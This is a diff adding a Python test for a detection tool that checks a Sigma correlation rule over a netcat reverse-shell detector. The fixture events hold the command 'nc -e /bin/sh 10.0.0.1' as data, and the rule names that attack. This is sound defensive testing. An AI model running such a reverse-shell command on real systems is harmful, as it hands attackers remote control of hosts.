@@ -295,6 +295,39 @@ def test_rules_test_raises_a_sigma_rule_on_a_netcat_reverse_shell():
     assert incidents[0]["count"] == 2 and incidents[0]["severity"] == 7, incidents
 
 
+def test_rules_test_runs_a_sigma_correlation_over_a_corpus_rule():
+    """An event_count correlation written here over the corpus's netcat reverse-shell rule (by id,
+    in another file): three matches by one user within a minute raise it, two by another do not,
+    and the correlated rule raises nothing of its own (generate defaults to false)."""
+    d = tempfile.mkdtemp(prefix="execwatch-correlation-")
+    try:
+        correlation = os.path.join(d, "repeated-reverse-shell.yml")
+        with open(correlation, "w") as f:
+            f.write("title: Repeated netcat reverse shells\nid: 0c0c0c0c-1111-2222-3333-444444444444\n"
+                    "author: execwatch tests\nlevel: critical\ncorrelation:\n    type: event_count\n"
+                    "    rules:\n        - 7f734ed0-4f47-46c0-837f-6ee62505abd9\n    group-by:\n        - User\n"
+                    "    timespan: 1m\n    condition:\n        gte: 3\n")
+        base = os.path.join(sigma_corpus(), "proc_creation_lnx_netcat_reverse_shell.yml")
+        events = "\n".join(json.dumps({
+            "eventType": "LINUX_PROCESS_EXEC", "eventTime": f"2026-11-28T10:00:{k:02d}Z", "hostName": "h", "user": user,
+            "procName": "nc.openbsd", "swParam": f"-e /bin/sh 10.0.0.1 {4440 + k}", "invokedPath": "/usr/bin/nc",
+            "exePath": "/usr/bin/nc.openbsd", "args": ["nc", "-e", "/bin/sh", "10.0.0.1", str(4440 + k)]})
+            for k, user in enumerate(["alice", "bob", "alice", "bob", "alice"])) + "\n"
+        out = run("rules", "test", "--events", "-", "--rules", base, "--rules", correlation,
+                  stdin=events.encode(), check_status=0)
+        incidents = json_lines(out.stdout)
+        assert [i["ruleId"] for i in incidents] == ["0c0c0c0c-1111-2222-3333-444444444444"], incidents
+        assert incidents[0]["attributes"]["user"] == "alice" and incidents[0]["severity"] == 9, incidents
+        assert incidents[0]["ruleAuthor"] == "execwatch tests", incidents
+        # a correlation naming a rule that is not loaded is refused with its place
+        proc = run("rules", "check", correlation)
+        assert proc.returncode == 2, proc
+        assert (f"{correlation}:8:11: correlation 0c0c0c0c-1111-2222-3333-444444444444: no loaded Sigma "
+                "process_creation rule has the name or id '7f734ed0-4f47-46c0-837f-6ee62505abd9'") in proc.stderr.decode()
+    finally:
+        shutil.rmtree(d, True)
+
+
 def test_rules_test_with_json_events():
     events = [
         {"eventTime": "2026-11-28T10:00:00.000Z", "hostName": "web-1", "user": "alice", "procName": "nc", "swParam": "-l 4444"},
